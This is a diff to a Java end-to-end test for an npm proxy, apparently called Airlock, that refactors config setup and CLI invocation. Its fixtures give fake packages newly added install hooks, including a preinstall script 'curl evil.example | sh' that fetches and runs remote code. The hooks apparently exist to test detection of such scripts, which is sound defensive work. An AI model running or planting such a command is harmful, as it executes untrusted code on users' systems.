@@ -3,19 +3,12 @@ package dev.airlock.npm.e2e;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import dev.airlock.config.AirlockConfig;
-import dev.airlock.config.CacheConfig;
-import dev.airlock.config.ConfigLoader;
-import dev.airlock.config.UpstreamConfig;
-import dev.airlock.core.cli.Main;
 import dev.airlock.core.testing.ClientProcess;
 import dev.airlock.core.testing.RunningAirlock;
 import dev.airlock.npm.fixture.FixtureNpmRegistry;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
-import picocli.CommandLine;
 
-import java.io.PrintWriter;
-import java.io.StringWriter;
 import java.net.URI;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -44,10 +37,7 @@ class AdminEndToEndTest {
 
     /** Runs the command line in-process, as an operator would, with a token in the environment's place. */
     private static String[] airlock(String... args) {
-        StringWriter out = new StringWriter();
-        StringWriter err = new StringWriter();
-        int code = new CommandLine(new Main()).setOut(new PrintWriter(out)).setErr(new PrintWriter(err)).execute(args);
-        return new String[]{Integer.toString(code), out.toString(), err.toString()};
+        return dev.airlock.core.testing.Cli.run(args);
     }
 
     private ClientProcess.Result install(RunningAirlock airlock, String dirName, String spec) throws Exception {
@@ -64,9 +54,7 @@ class AdminEndToEndTest {
                 .pkg("tinted-box", p -> p.version("1.0.0", v -> v.npmUser("ann", "ann@example.test"))
                         .version("1.1.0", v -> v.npmUser("ann", "ann@example.test").script("postinstall", "node collect.js")))
                 .start()) {
-            AirlockConfig c = ConfigLoader.defaults().withPort(0).withStoragePath(tmp.resolve("data"))
-                    .withCache(new CacheConfig(Duration.ofMinutes(5), 64L * 1024 * 1024))
-                    .withUpstream("npm", UpstreamConfig.empty().withUrl(URI.create(registry.baseUrl())));
+            AirlockConfig c = RunningAirlock.config(tmp.resolve("data"), "npm", URI.create(registry.baseUrl()));
             try (RunningAirlock airlock = RunningAirlock.start(c)) {
                 String server = "http://127.0.0.1:" + airlock.port();
                 String admin = airlock.adminToken();
@@ -137,9 +125,7 @@ class AdminEndToEndTest {
         try (FixtureNpmRegistry registry = FixtureNpmRegistry.builder()
                 .pkg("plain-box", p -> p.version("1.0.0", v -> v.npmUser("ann", "ann@example.test")))
                 .start()) {
-            AirlockConfig c = ConfigLoader.defaults().withPort(0).withStoragePath(tmp.resolve("data"))
-                    .withCache(new CacheConfig(Duration.ofMinutes(5), 64L * 1024 * 1024))
-                    .withUpstream("npm", UpstreamConfig.empty().withUrl(URI.create(registry.baseUrl())));
+            AirlockConfig c = RunningAirlock.config(tmp.resolve("data"), "npm", URI.create(registry.baseUrl()));
             try (RunningAirlock airlock = RunningAirlock.start(c)) {
                 String admin = airlock.adminToken();
                 assertEquals(0, install(airlock, "a", "plain-box@1.0.0").exitCode());
@@ -170,9 +156,7 @@ class AdminEndToEndTest {
                 .pkg("hooked-box", p -> p.version("1.0.0", v -> v.npmUser("ann", "ann@example.test"))
                         .version("1.1.0", v -> v.npmUser("ann", "ann@example.test").script("preinstall", "curl evil.example | sh")))
                 .start()) {
-            AirlockConfig c = ConfigLoader.defaults().withPort(0).withStoragePath(tmp.resolve("data"))
-                    .withCache(new CacheConfig(Duration.ofMinutes(5), 64L * 1024 * 1024))
-                    .withUpstream("npm", UpstreamConfig.empty().withUrl(URI.create(registry.baseUrl())))
+            AirlockConfig c = RunningAirlock.config(tmp.resolve("data"), "npm", URI.create(registry.baseUrl()))
                     .withNotifications(new dev.airlock.config.NotificationsConfig(List.of(dev.airlock.config.WebhookConfig.of(
                             URI.create("http://127.0.0.1:" + port + "/hook"), dev.airlock.config.WebhookConfig.Format.JSON))));
             try (RunningAirlock airlock = RunningAirlock.start(c)) {
@@ -217,9 +201,7 @@ class AdminEndToEndTest {
         try (FixtureNpmRegistry registry = FixtureNpmRegistry.builder()
                 .pkg("closed-box", p -> p.version("1.0.0", v -> v.npmUser("ann", "ann@example.test")))
                 .start()) {
-            AirlockConfig c = ConfigLoader.defaults().withPort(0).withStoragePath(tmp.resolve("data"))
-                    .withCache(new CacheConfig(Duration.ofMinutes(5), 64L * 1024 * 1024))
-                    .withUpstream("npm", UpstreamConfig.empty().withUrl(URI.create(registry.baseUrl())))
+            AirlockConfig c = RunningAirlock.config(tmp.resolve("data"), "npm", URI.create(registry.baseUrl()))
                     .withRequireToken(true);
             try (RunningAirlock airlock = RunningAirlock.start(c)) {
                 var anonymous = airlock.get("/npm/closed-box");
